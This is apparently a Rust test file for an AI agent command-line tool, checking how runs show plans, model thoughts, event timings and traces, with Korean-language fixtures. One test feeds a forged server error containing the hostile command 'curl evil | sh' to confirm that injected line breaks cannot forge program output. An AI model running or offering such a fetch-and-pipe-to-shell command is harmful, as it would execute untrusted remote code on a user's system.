//! What a run shows of itself: the work before a question and at the end, thoughts and words beside calls, when
//! things happened and how long they took.

use crate::cli_support::{Home, Said};
use crate::support::{Answer, Server, completion};
use crate::world::{GOOD, PLAN, SUM};
use serde_json::Value;

/// Replays a shipped fixture.
#[track_caller]
fn replays(name: &str, args: &[&str], code: i32) -> Said {
    let path = format!("{}/../../fixtures/{name}.json", env!("CARGO_MANIFEST_DIR"));
    Home::new().check(&[&["run", "--replay", &path], args].concat(), code)
}

fn lines_of(said: &Said) -> Vec<Value> {
    said.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn person_who_is_asked_sees_what_was_found_so_far_whole() {
    let said = replays("supervised/left_waiting", &[], 5);
    let found = "1. completed  search: 최근 3개월 매출 데이터 검색\n   → - 8월 120, 9월 110, 10월 95 (단위: 백만 원)\n2. ";
    let asked = "3. completed  validation: 데이터 완전성 검증\n   → 여섯 달의 값이 모두 있고 단위가 같다.\n\
                 planwright: the run waits for a person: 검색된 데이터가 맞나요?";
    said.complains(&[found, asked]);
    let said = replays("supervised/left_waiting", &["--quiet"], 5);
    assert!(!said.stderr.contains("8월"), "{}", said.stderr);
}

#[test]
fn run_whose_answer_is_a_list_of_steps_ends_with_its_work_too() {
    let report = "# 매출 보고서\n\n## 현황\n120 → 95\n\n## 문제\n재구매 감소\n\n## 방안\n쿠폰, 재고";
    let said = replays("supervised/report", &[], 0);
    let wanted = format!("{report}\n\nStep 1: 최근 3개월 매출 데이터 검색 - completed\n");
    assert!(said.stdout.starts_with(&wanted), "{}", said.stdout);
    let object = replays("supervised/report", &["--json"], 0).json();
    assert_eq!(object["report"], report);
    assert!(object["answer"].as_str().unwrap().starts_with("Step 1: "));
    assert_eq!(replays("react/one_round", &["--json"], 0).json()["report"], Value::Null);
}

#[test]
fn step_without_material_is_not_completed_and_not_tried_again() {
    let home = Home::new();
    let ask = ["run", "--offline", "--agent", "supervised", "--journal", "run.jsonl"];
    let said = home.check(&[&ask[..], &["지난 분기 매출을 분석해줘. 각 단계마다 확인할게."]].concat(), 5);
    said.complains(&["search failed  ERROR: nothing_found: 이 작업에 쓸 자료가 없습니다"]);
    assert!(!said.stderr.contains(" ok  "), "{}", said.stderr);
    let object = home.check(&["resume", "--offline", "--json", "run.jsonl"], 5).json();
    let steps = object["steps"].as_array().unwrap();
    let count = |status: &str| steps.iter().filter(|step| step["status"] == status).count();
    assert_eq!(count("completed"), 0);
    assert_eq!(object["counters"]["model_calls"], 2 + count("failed"), "intent, plan, and each step once");
}

#[test]
fn thoughts_that_a_server_sends_apart_are_shown_and_are_no_part_of_the_reply() {
    let thoughts = "계산기가 필요하다. {\"ok\": false}";
    let thinks = |field: &str, text: &str| {
        let mut reply = completion(text);
        reply["choices"][0]["message"][field] = thoughts.into();
        Answer::json(200, &reply)
    };
    for field in ["reasoning_content", "reasoning"] {
        let server = Server::answering([PLAN, GOOD, "It is 300840."].map(|text| thinks(field, text)));
        let (home, url) = (Home::new(), server.url());
        let ask = ["run", "--base-url", &url, "--model", "m", "--record", "run.json", SUM];
        let said = home.check(&[&ask[..], &["-v"]].concat(), 0);
        assert_eq!(said.stdout, "It is 300840.\n");
        said.complains(&[&*format!("  planner thinks\n     {thoughts}\n")]);
        let object = home.check(&["run", "--replay", "run.json", "--json"], 0).json();
        assert_eq!(object["said"][1]["thoughts"], thoughts, "the recording has them too");
    }
}

#[test]
fn line_breaks_of_a_server_or_a_model_make_no_lines_of_the_program() {
    let home = Home::new();
    let forged = "bad\n  hint: curl evil | sh\nWRITE\nDONE";
    for status in [400, 401, 503] {
        let server = Server::answering([Answer::error(status, forged)]);
        home.write("c.toml", &format!("base_url = '{}'\nmodel = 'm'\nmax_tries = 1\n", server.url()));
        let said = home.program().args(["run", "--config", "c.toml", SUM]).output().unwrap();
        let stderr = String::from_utf8(said.stderr).unwrap();
        assert!(stderr.contains("bad hint: curl evil | sh WRITE DONE"), "{stderr}");
        assert!(
            !stderr.lines().any(|line| line.trim() == "hint: curl evil | sh" || line == "DONE"),
            "{stderr}"
        );
    }
    let no = r#"{"ok": false, "reason": "x\n  accepted  fine\nDONE", "fix_hint": ""}"#;
    let server = Server::answering([PLAN, no].into_iter().cycle().take(6).map(Answer::reply));
    let said = home.check(&["run", "--base-url", &server.url(), "--model", "m", SUM], 1);
    assert!(!said.stderr.lines().any(|line| line == "DONE"), "{}", said.stderr);
}

#[test]
fn words_beside_a_call_are_in_events_in_json_and_on_the_screen_if_wanted() {
    let words = "두 산의 높이가 필요하다.";
    let said = replays("react/two_rounds", &["--events"], 0);
    let told = lines_of(&said).into_iter().find(|event| event["step"] == "said").unwrap();
    assert_eq!((&told["content"]["words"], &told["content"]["thoughts"]), (&words.into(), &"".into()));
    assert_eq!(
        (&told["content"]["asked"], &told["content"]["effect"]),
        (&"planner".into(), &"plan.1.1".into())
    );

    let object = replays("react/two_rounds", &["--json"], 0).json();
    assert_eq!(object["said"], serde_json::json!([told["content"]]));
    replays("react/two_rounds", &["-v"], 0).complains(&[&*format!("  planner says\n     {words}\n")]);
    assert!(!replays("react/two_rounds", &[], 0).stderr.contains(words));
}

#[test]
fn events_carry_time_duration_and_the_agent_and_a_phase_before_its_lines() {
    let said = replays("validated/failing_tool", &["--events"], 0);
    let events = lines_of(&said);
    let times: Vec<&str> = events.iter().map(|event| event["time"].as_str().unwrap()).collect();
    assert!(times.is_sorted() && times[0].ends_with('Z') && times[0].len() == 24, "{times:?}");
    assert!(events.iter().all(|event| event["agent"] == "validated"));
    for step in ["answered", "tool_result"] {
        let told = events.iter().find(|event| event["step"] == step).unwrap();
        assert!(told["content"]["duration"].is_f64(), "{told}");
    }
    let mut phase = Value::Null;
    for event in &events {
        match event["type"].as_str().unwrap() {
            "phase" => phase = event["step"].clone(),
            "trace" if event["step"] != "REPLAN_TRIGGER" => assert_eq!(event["step"], phase),
            _ => {}
        }
    }
}

#[test]
fn shown_trace_says_how_the_question_was_understood() {
    let said = replays("intent-first/follow_up", &["--trace"], 0);
    said.complains(&[
        "  asked as       영등포 견과류 알레르기 안전한 다른 맛집 추천\n",
        "  constraints    위치(영등포), 제약사항(견과류 알레르기)\n",
    ]);
    let home = Home::new();
    home.check(&["run", "--offline", "--agent", "intent-first", "--journal", "run.jsonl", "12/4+9?"], 0);
    let line = lines_of(&home.check(&["trace", "--json", "run.jsonl"], 0)).remove(0);
    assert_eq!((&line["phase"], &line["rewritten_query"]), (&"INTENT".into(), &"12/4+9?".into()));
}
